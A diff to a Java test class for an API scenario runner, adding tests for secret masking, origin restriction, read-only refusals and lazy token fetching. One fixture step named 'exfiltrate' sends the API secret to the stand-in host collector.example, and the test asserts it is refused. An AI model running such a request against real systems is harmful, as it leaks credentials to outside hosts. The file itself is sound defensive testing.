@@ -72,7 +72,7 @@ class ScenarioRunnerTest {
             bindings.put("baseUrl", new Binding.Literal("http://api.test"));
             bindings.put("API_SECRET", new Binding.SecretValue(() -> Secret.copyOf(SECRET), false));
             captures.forEach((k, v) -> bindings.put(k, new Binding.Literal(v)));
-            return new VariableResolver(bindings, true);
+            return new VariableResolver(bindings, true, false); // as runs resolve: masks without last four
         }, profile -> new Token(Secret.copyOf(TOKEN), TokenSource.STATIC_TOKEN), new RequestPacer(1000));
     }
 
@@ -199,5 +199,83 @@ class ScenarioRunnerTest {
         runner.run(scenario(false, Optional.empty(), override), Optional.empty(), target(WRITABLE), RunListener.NONE,
                 new CancelSignal());
         assertThat(http.sent).hasSize(1);
+    }
+
+    @Test
+    void aSecretEchoedInOneStepAndCapturedIntoTheNextIsMaskedEverywhere() {
+        paths.values.put("$.echo", SECRET + "-" + TOKEN);
+        ScenarioStep echo = step("echo", "GET", "${baseUrl}/echo", Expectations.NONE, Map.of("LEAK", "$.echo"));
+        ScenarioStep reuse = new ScenarioStep("reuse", new RequestSpec("GET", "${baseUrl}/x?s=${LEAK}",
+                Map.of("X-Note", "${LEAK}"), Optional.empty()), new Expectations(Optional.of(500), Map.of("$.echo",
+                "other"), List.of(), Map.of(), Optional.empty()), Map.of());
+        ScenarioStep broken = new ScenarioStep("broken", new RequestSpec("GET", "${LEAK}", Map.of(), Optional.empty()),
+                Expectations.NONE, Map.of());
+        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"), echo, reuse, broken),
+                Optional.empty(), target(WRITABLE), RunListener.NONE, new CancelSignal());
+        assertThat(http.sent).hasSize(2);
+        assertThat(http.sent.get(1).url().toString()).contains("sk-very-secret-991"); // sent as the scenario says
+        assertThat(result.steps()).extracting(StepResult::outcome)
+                .containsExactly(StepOutcome.PASSED, StepOutcome.FAILED, StepOutcome.ERROR);
+        assertThat(result.toString()).doesNotContain(SECRET).doesNotContain(TOKEN).doesNotContain("z991")
+                .doesNotContain("-991");
+        assertThat(ScenarioService.findings(result).toString()).doesNotContain(SECRET).doesNotContain(TOKEN);
+    }
+
+    @Test
+    void aStepOnlyTalksToItsEnvironmentsOrigins() {
+        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"),
+                step("exfiltrate", "GET", "http://collector.example/k?v=${API_SECRET}", Expectations.NONE, Map.of()),
+                step("port", "GET", "http://api.test:8080/x", Expectations.NONE, Map.of()),
+                step("scheme", "GET", "https://api.test/x", Expectations.NONE, Map.of()),
+                step("fine", "GET", "HTTP://API.test:80/x", Expectations.NONE, Map.of())),
+                Optional.empty(), target(WRITABLE), RunListener.NONE, new CancelSignal());
+        assertThat(result.steps()).extracting(StepResult::outcome).containsExactly(StepOutcome.REFUSED,
+                StepOutcome.REFUSED, StepOutcome.REFUSED, StepOutcome.PASSED);
+        assertThat(result.steps().get(0).message().orElseThrow()).contains("http://collector.example:80 is not QA's "
+                + "base URL or API base URL");
+        assertThat(http.sent).hasSize(1);
+        assertThat(result.toString()).doesNotContain(SECRET);
+    }
+
+    @Test
+    void readOnlyAlsoRefusesBodiesOnSafeMethodsAndMethodQueryParameters() {
+        ScenarioStep body = new ScenarioStep("get with body", new RequestSpec("GET", "${baseUrl}/x", Map.of(),
+                Optional.of("{\"delete\": \"everything\"}")), Expectations.NONE, Map.of());
+        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"), body,
+                step("query", "GET", "${baseUrl}/items/1?a=1&_Method=DELETE", Expectations.NONE, Map.of()),
+                step("encoded", "GET", "${baseUrl}/items/1?%5Fmethod=PUT", Expectations.NONE, Map.of())),
+                Optional.empty(), target(new Constraints(true, 1000, true, true)), RunListener.NONE, new CancelSignal());
+        assertThat(result.steps()).extracting(StepResult::outcome).containsOnly(StepOutcome.REFUSED);
+        assertThat(http.sent).isEmpty();
+    }
+
+    @Test
+    void aDeleteStepMakesAScenarioDestructiveWhateverItsFlagSays() {
+        ScenarioResult result = runner.run(scenario(false, Optional.empty(),
+                step("wipe", "DELETE", "${baseUrl}/items", Expectations.NONE, Map.of())), Optional.empty(),
+                target(WRITABLE), RunListener.NONE, new CancelSignal());
+        assertThat(result.status()).isEqualTo(RunStatus.REFUSED);
+        assertThat(result.summary()).isEqualTo("Refused: s has a DELETE step and QA does not allow destructive tests.");
+        assertThat(http.sent).isEmpty();
+    }
+
+    @Test
+    void theTokenIsFetchedOnlyWhenAStepIsAboutToBeSent() {
+        int[] logins = {0};
+        RunTarget base = target(new Constraints(true, 1000, true, true));
+        RunTarget counting = new RunTarget(base.environment(), base.resolvers(), profile -> {
+            logins[0]++;
+            return new Token(Secret.copyOf("{\"password\": \"p\\\"w-secret\"}"), TokenSource.HTTP_LOGIN);
+        }, base.pacer());
+        runner.run(scenario(false, Optional.of("admin"), step("post", "POST", "${baseUrl}/x", Expectations.NONE,
+                Map.of())), Optional.empty(), counting, RunListener.NONE, new CancelSignal());
+        assertThat(logins[0]).isZero();
+        http.answer = o -> new ScenarioHttp.Answer.Response(200, Map.of(), "{\"got\": \""
+                + o.headers().stream().filter(h -> h.getKey().equals("Authorization")).findFirst().orElseThrow()
+                .getValue().replace("\\", "\\\\").replace("\"", "\\\"") + "\"}", false, Duration.ofMillis(1));
+        ScenarioResult result = runner.run(scenario(false, Optional.of("admin"), step("get", "GET", "${baseUrl}/x",
+                Expectations.NONE, Map.of())), Optional.empty(), counting, RunListener.NONE, new CancelSignal());
+        assertThat(logins[0]).isEqualTo(1);
+        assertThat(result.steps().get(0).responseExcerpt()).doesNotContain("w-secret").contains("****");
     }
 }
